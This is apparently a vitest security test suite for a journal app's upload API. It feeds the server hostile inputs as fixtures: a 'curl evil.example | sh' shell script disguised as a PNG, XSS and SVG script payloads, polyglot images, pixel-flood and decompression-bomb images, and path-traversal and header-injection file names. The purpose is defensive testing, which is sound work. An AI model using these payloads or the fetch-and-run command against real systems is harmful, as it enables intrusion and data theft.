import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ErrorText } from '../../contract/errors.js';
import { bytes, createJournal, form, pngBytes } from '../test/fixtures.js';
import { startTestServer, testDialect, type TestServer } from '../test/harness.js';
import {
  closing,
  expectRefused,
  field,
  filesUnder,
  storedMedia,
  floodPng,
  footprint,
  part,
  postRaw,
} from './upload-helpers.js';

type Account = Awaited<ReturnType<TestServer['register']>>;
type Files = NonNullable<Parameters<typeof form>[1]>;

const TOO_MANY_PIXELS = 'The image is too large: at most 64 megapixels.';
/** Every file a server keeps in its DATA_DIR (on SQLite; the database is elsewhere on PostgreSQL). */
const SERVER_CHOSEN =
  /^(media\/[0-9a-f]{2}\/[0-9a-f-]{36}|client\/index\.html|ritual\.sqlite(-wal|-shm)?|outbox\/[\w.-]+\.eml)$/;
/** Where each kind of image arrives; an audio cover rides beside a recording. */
const IMAGE_ROUTES = ['entry', 'audio_cover', 'avatar', 'icon'] as const;

describe(`uploads that try to be something else (${testDialect})`, () => {
  let server: TestServer;
  let me: Account;
  let journalId: string;
  beforeAll(async () => {
    server = await startTestServer();
    me = await server.register('attacker');
    journalId = (await createJournal(server, me.token)).id;
  });
  afterAll(() => server.close());

  const upload = (files: Files, path = '/api/entries') =>
    server.call('POST', path, { token: me.token, body: form({ journal_id: journalId }, files) });
  const imageTo = (route: (typeof IMAGE_ROUTES)[number], image: Files[string]) => {
    if (route === 'avatar') return upload({ file: image }, '/api/users/avatar');
    if (route === 'icon') return upload({ file: image }, `/api/journals/${journalId}/icon`);
    if (route === 'entry') return upload({ file: image });
    return upload({ file: { bytes: bytes.wav(), type: 'audio/wav' }, audio_cover: image });
  };
  const refused = (send: () => ReturnType<typeof upload>, status: number, message: string) =>
    expectRefused(server, me.user.id, send, status, message);

  it('refuses programs and scripts dressed as media, keeping nothing of them', async () => {
    const elf = Buffer.concat([
      Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'),
      Buffer.alloc(300),
    ]);
    const zip = Buffer.concat([Buffer.from('PK\x03\x04\x14\x00', 'latin1'), Buffer.alloc(300)]);
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\n'.repeat(10));
    const cases: [Buffer, string, string, string][] = [
      [bytes.exe(), 'image/png', 'holiday.png', ErrorText.invalidFileType],
      [bytes.exe(), 'audio/wav', 'voice.wav', ErrorText.invalidFileType],
      [elf, 'image/jpeg', 'me.jpg', ErrorText.invalidFileType],
      [zip, 'video/mp4', 'clip.mp4', ErrorText.invalidFileType],
      [pdf, 'image/gif', 'scan.gif', ErrorText.invalidFileType],
      [Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'image/png', 'a.png', 'x'],
      [Buffer.from('<!doctype html><script>alert(1)</script>'), 'image/gif', 'a.gif', 'x'],
      [Buffer.from('alert(document.cookie)'.repeat(20)), 'audio/mpeg', 'song.mp3', 'x'],
    ];
    for (const [content, type, name, message] of cases) {
      const expected = message === 'x' ? ErrorText.unidentifiedFileType : message;
      await refused(() => upload({ file: { bytes: content, type, name } }), 415, expected);
    }
    const html = Buffer.from('<!doctype html><script>alert(1)</script>');
    for (const route of ['avatar', 'icon', 'audio_cover'] as const) {
      await refused(
        () => imageTo(route, { bytes: html, type: 'image/png', name: 'x.png' }),
        415,
        ErrorText.unidentifiedFileType,
      );
    }
  });

  it('refuses SVG, with or without a script, whatever it is called', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
    );
    for (const route of IMAGE_ROUTES) {
      await refused(
        () => imageTo(route, { bytes: svg, type: 'image/svg+xml', name: 'logo.svg' }),
        415,
        ErrorText.invalidFileType,
      );
      await refused(
        () => imageTo(route, { bytes: svg, type: 'image/png', name: 'logo.png' }),
        415,
        ErrorText.unidentifiedFileType,
      );
    }
  });

  it('keeps an image that carries HTML, JS or a ZIP after it only as that image, served so no browser runs it', async () => {
    const base = sharp({ create: { width: 32, height: 24, channels: 3, background: '#2a6' } });
    const payload = Buffer.from('<html><script>alert(document.domain)</script></html>PK\x03\x04');
    const polyglots: [Buffer, string][] = [
      [await base.clone().png().toBuffer(), 'image/png'],
      [await base.clone().jpeg().toBuffer(), 'image/jpeg'],
      [await base.clone().gif().toBuffer(), 'image/gif'],
    ];
    for (const [image, type] of polyglots) {
      // Declared as something else on purpose: the bytes decide what is stored and served.
      const declared = type === 'image/png' ? 'image/jpeg' : 'image/png';
      const res = await upload({
        file: { bytes: Buffer.concat([image, payload]), type: declared, name: 'page.html' },
      });
      expect(res.status, res.text).toBe(201);
      expect(res.body).toMatchObject({ type: 'image', file: { type, width: 32, height: 24 } });
      const original = await server.app.request(res.body.link);
      expect(original.headers.get('content-type')).toBe(type);
      expect(original.headers.get('x-content-type-options')).toBe('nosniff');
      expect(original.headers.get('content-security-policy')).toMatch(/sandbox/);
      const preview = await server.app.request(res.body.preview_link);
      expect(preview.headers.get('content-type')).toBe('image/webp');
      expect(Buffer.from(await preview.arrayBuffer()).includes('<script>')).toBe(false);
    }
    // A GIF whose header is itself a script comment (GIF89a/*…*/=alert(1)) decodes as no image.
    const scriptGif = Buffer.concat([
      Buffer.from('GIF89a/*\x00\x00\x80\x00\x00', 'latin1'),
      Buffer.alloc(32),
      Buffer.from('*/=alert(1);'),
    ]);
    await refused(
      () => upload({ file: { bytes: scriptGif, type: 'image/gif' } }),
      422,
      'The image could not be read.',
    );
  });

  it('refuses pixel floods and a decompression bomb wherever an image is taken', async () => {
    const small = sharp({ create: { width: 8, height: 8, channels: 3, background: '#135' } });
    const jpeg = Buffer.from(await small.clone().jpeg().toBuffer());
    const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0])); // SOF0: height, then width
    jpeg.writeUInt16BE(50_000, frame + 5);
    jpeg.writeUInt16BE(50_000, frame + 7);
    const gif = Buffer.from(await small.clone().gif().toBuffer());
    const descriptor = gif.indexOf(0x2c, 13); // the first image descriptor
    for (const at of [6, 8, descriptor + 5, descriptor + 7]) gif.writeUInt16LE(50_000, at);
    const bomb = floodPng(9000, 9000);
    expect(bomb.length).toBeLessThan(20_000);
    const floods: Files[string][] = [
      { bytes: floodPng(50_000, 50_000, 1), type: 'image/png' },
      { bytes: jpeg, type: 'image/jpeg' },
      { bytes: gif, type: 'image/gif' },
      { bytes: bomb, type: 'image/png' },
    ];
    for (const route of IMAGE_ROUTES) {
      for (const flood of floods) await refused(() => imageTo(route, flood), 422, TOO_MANY_PIXELS);
    }
    const user = await server.call('GET', '/api/auth', { token: me.token });
    expect(user.body.user.avatar).toBeNull();
  });

  it('keeps a file name only as a label: never a path, never with control characters', async () => {
    const png = await pngBytes(16, 16);
    const longName = `${'n'.repeat(1000)}.png`;
    const cases: [disposition: string, name: string | null][] = [
      ['filename="../../etc/passwd"', 'passwd'],
      ['filename="..\\..\\..\\windows\\win.ini"', 'win.ini'],
      ['filename="photos/2026/sunrise.png"', 'sunrise.png'],
      ["filename*=UTF-8''..%2F..%2F.ssh%2Fauthorized_keys", 'authorized_keys'],
      ['filename=".."', null],
      ["filename*=UTF-8''night%00.png.exe", 'night.png.exe'],
      ["filename*=UTF-8''a%0D%0AX-Injected%3A%201.png", 'aX-Injected: 1.png'],
      [`filename="${longName}"`, longName.slice(0, 255)],
      [
        `filename*=UTF-8''${encodeURIComponent('Morgensonne über dem Fjord 🌅.png')}`,
        'Morgensonne über dem Fjord 🌅.png',
      ],
      // 200 emoji are 400 UTF-16 units: the name is cut to 255 without halving the last one.
      [`filename*=UTF-8''${encodeURIComponent('🙂'.repeat(200))}`, '🙂'.repeat(127)],
    ];
    for (const [disposition, name] of cases) {
      const body = Buffer.concat([
        field('journal_id', journalId),
        part(`name="file"; ${disposition}`, png, 'image/png'),
        closing(),
      ]);
      const res = await postRaw(server, '/api/entries', me.token, body);
      expect([res.status, res.body.file?.name], disposition).toEqual([201, name]);
      const served = await server.app.request(res.body.link);
      expect(served.status).toBe(200);
      expect(served.headers.get('content-disposition')).toMatch(/^inline; filename="[\x20-\x7e]*"/);
    }
    // Every stored file has a name the server chose, in the media store (DATA_DIR/media or a
    // bucket); nothing went elsewhere in DATA_DIR.
    const stored = await storedMedia(server);
    expect(stored.length).toBeGreaterThanOrEqual(2 * cases.length);
    for (const name of stored) expect(`media/${name}`).toMatch(SERVER_CHOSEN);
    for (const path of filesUnder(server.dataDir)) expect(path).toMatch(SERVER_CHOSEN);
    const before = await footprint(server, me.user.id);
    const nul = Buffer.concat([
      field('journal_id', journalId),
      part('name="file"; filename="a\x00b.png"', png, 'image/png'),
      closing(),
    ]);
    const res = await postRaw(server, '/api/entries', me.token, nul);
    expect(res.body).toEqual({ statusCode: 400, message: 'The upload could not be read.' });
    expect(await footprint(server, me.user.id)).toEqual(before);
  });
});
